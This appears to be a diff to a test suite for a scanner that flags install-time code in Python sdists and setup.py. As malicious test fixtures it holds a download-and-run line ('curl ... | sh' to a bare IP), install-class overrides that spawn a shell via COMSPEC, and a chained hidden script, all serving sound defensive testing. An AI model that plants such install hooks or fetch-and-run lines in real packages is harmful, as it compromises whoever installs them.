@@ -10,7 +10,13 @@ malicious twin that must stay high:
 * a module imported by a computed name in setup.py (a test loader's ``__import__(name)``
   over the test folder, a PEP 562 lazy loader's ``import_module("." + name, __name__)`` in
   the version file setup.py runs) loads a module the scan reads or one already installed:
-  no install-time act. A name that is decoded or downloaded first stays a chain.
+  no install-time act. A name that is decoded or downloaded first stays a chain;
+* setup.py starting a script its own sdist ships (``sh autogen.sh`` of a bundled library,
+  ``./build_bundled.sh``) is judged by what the script does: the start is shown at medium and
+  a download-and-run line in the script stays high. A script the package does not ship
+  (written or fetched at install) or a binary under a script's name still acts; so does a
+  shell line chained after the script;
+* ``touch`` on the sources (so make does not rerun autotools) is a build tool.
 """
 
 from __future__ import annotations
@@ -110,6 +116,37 @@ def test_a_computed_start_in_a_helper_the_install_override_calls_acts(tmp_path):
     assert _install_time(_sdist(tmp_path, evil))
 
 
+def test_a_computed_start_in_an_install_class_registered_by_subscript_acts(tmp_path):
+    """Registered as ``cmdclass["install"] = Post`` (no install base), or subclassing the
+    install command under an import alias: still an install step."""
+    post = (
+        "class Post(__import__('setuptools').Command):\n"
+        "    def run(self):\n"
+        "        subprocess.Popen([os.environ.get('COMSPEC'), '/c', sys.argv[0]])\n\n\n"
+        "cmdclass = {}\n"
+        'cmdclass["install"] = Post\n\n\n'
+    )
+    evil = BUILD_EXT.replace("setup(\n", post + "setup(\n")
+    (tmp_path / "a").mkdir()
+    (tmp_path / "b").mkdir()
+    assert _install_time(_sdist(tmp_path / "a", evil))
+    aliased = BUILD_EXT.replace(
+        "from distutils.command.build_clib import build_clib\n",
+        "from distutils.command.build_clib import build_clib\n"
+        "from setuptools.command.install import install as _orig_step\n",
+    ).replace(
+        'class Install(__import__("setuptools").command.install.install):\n'
+        "    def run(self):\n"
+        "        super().run()\n",
+        "class Install(_orig_step):\n"
+        "    def run(self):\n"
+        "        super().run()\n"
+        "        subprocess.Popen([os.environ.get('COMSPEC'), '/c', sys.argv[0]])\n",
+    )
+    assert "_orig_step):" in aliased
+    assert _install_time(_sdist(tmp_path / "b", aliased))
+
+
 def test_a_build_step_starting_what_it_downloaded_stays_high(tmp_path):
     evil = BUILD_EXT.replace(
         '        configure = self.find_script("configure")\n',
@@ -173,3 +210,74 @@ def test_a_module_name_decoded_in_setup_py_stays_a_chain(tmp_path):
     res = _sdist(tmp_path, evil, {"tidy/__init__.py": LAZY_INIT.encode()})
     assert res.risk.level in HIGH
     assert any(t.id == "chain.decode_exec" for t in res.threats if t.severity in HIGH)
+
+
+# A bundled C library built from setup.py: autogen.sh when configure is missing, then the
+# bundled build script, then touch so make does not rerun autotools.
+BUNDLED_LIB = """import os, subprocess
+from setuptools import setup, Extension
+from setuptools.command.build_ext import build_ext
+
+LIB_DIR = os.path.join(os.path.dirname(__file__), "vendor", "libtidy")
+
+
+class BuildExt(build_ext):
+    def run(self):
+        if not os.path.exists(os.path.join(LIB_DIR, "configure")):
+            subprocess.run(["/bin/sh", "autogen.sh"], cwd=LIB_DIR, check=True)
+        subprocess.check_call(["./build_bundled.sh"])
+        subprocess.run(["touch", "configure.ac", "aclocal.m4"], cwd=LIB_DIR, check=True)
+        build_ext.run(self)
+
+
+setup(name="tidy", ext_modules=[Extension("tidy._c", ["tidy/_c.c"])],
+      cmdclass={"build_ext": BuildExt})
+"""
+AUTOGEN = b"#!/bin/sh\nset -e\nautoreconf --install --force\n"
+BUILD_BUNDLED = b"#!/bin/sh\nset -e\nmkdir -p build && cd build\ncmake .. && make -j4\n"
+
+
+def _bundled(tmp_path, setup_py=BUNDLED_LIB, files: dict[str, bytes] | None = None):
+    shipped = {
+        "vendor/libtidy/autogen.sh": AUTOGEN,
+        "build_bundled.sh": BUILD_BUNDLED,
+        "tidy/_c.c": b"int tidy(void) { return 0; }\n",
+    }
+    shipped.update(files or {})
+    return _sdist(tmp_path, setup_py, shipped)
+
+
+def test_setup_py_starting_scripts_its_sdist_ships_is_judged_by_the_scripts(tmp_path):
+    res = _bundled(tmp_path)
+    starts = [h for h in res.findings if h.rule == "py.spawn_own_script"]
+    assert {h.line for h in starts} == {11, 12}, "both script starts are shown"
+    assert all(h.severity == "medium" for h in starts)
+    assert not _install_time(res)
+    assert res.risk.level not in HIGH
+
+
+def test_a_shipped_script_that_downloads_and_runs_stays_high(tmp_path):
+    evil = b"#!/bin/sh\ncurl -s http://203.0.113.7/x.sh | sh\n"
+    res = _bundled(tmp_path, files={"build_bundled.sh": evil})
+    assert res.risk.level in HIGH
+    assert any(h.path == "build_bundled.sh" and h.severity in HIGH for h in res.findings), (
+        "the script's own line is the finding"
+    )
+
+
+def test_a_started_script_the_sdist_does_not_ship_still_acts(tmp_path):
+    evil = BUNDLED_LIB.replace('"./build_bundled.sh"', '"./.cache_helper.sh"')
+    assert _install_time(_bundled(tmp_path, evil))
+
+
+def test_a_binary_under_a_scripts_name_still_acts(tmp_path):
+    elf = b"\x7fELF\x02\x01\x01" + bytes(200)
+    assert _install_time(_bundled(tmp_path, files={"build_bundled.sh": elf}))
+
+
+def test_a_shell_line_chained_after_a_shipped_script_still_acts(tmp_path):
+    evil = BUNDLED_LIB.replace(
+        'subprocess.check_call(["./build_bundled.sh"])',
+        'subprocess.check_call("sh build_bundled.sh; sh /tmp/.x", shell=True)',
+    )
+    assert _install_time(_bundled(tmp_path, evil))
